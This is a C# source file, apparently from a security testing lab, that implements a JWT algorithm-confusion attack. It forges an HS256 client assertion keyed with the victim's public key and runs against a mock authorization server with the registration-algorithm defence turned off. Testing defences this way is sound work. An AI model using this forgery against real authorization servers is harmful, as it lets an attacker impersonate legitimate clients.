using ClientAuth.Client;
using ClientAuth.Lab.Testbeds;
using ClientAuth.MockServer;
using ClientAuth.MockServer.Options;
using ClientAuth.Protocol;

namespace ClientAuth.Lab.Attacks;

/// <summary>
/// The public key as a secret (RFC 8725 §2.1): the header says <c>HS256</c>, and the MAC is keyed with the text of the public key, which
/// anybody may have.
/// </summary>
public sealed class AlgorithmConfusion()
    : ForgedAssertion(
        new(
            "algorithm-confusion",
            AttackGroup.Forges,
            "HS256 with the public key",
            "the client's public key",
            "the registration names the algorithm"
        )
    )
{
    private protected override AuthorizationServerOptions Without(AuthorizationServerOptions options) =>
        SwitchOff(options, Defence.AlgorithmOfRegistration);

    private protected override string Forge(Testbed target)
    {
        using var key = target.PublicKeyOf(Victim);
        var secret = new ClientSecret(key.ExportSubjectPublicKeyInfoPem());
        var signer = new AssertionSigner.Hmac(secret, SignatureAlgorithms.HS256);
        return TokenRequests.Draft(target, Victim, signer).Build().Compact;
    }
}
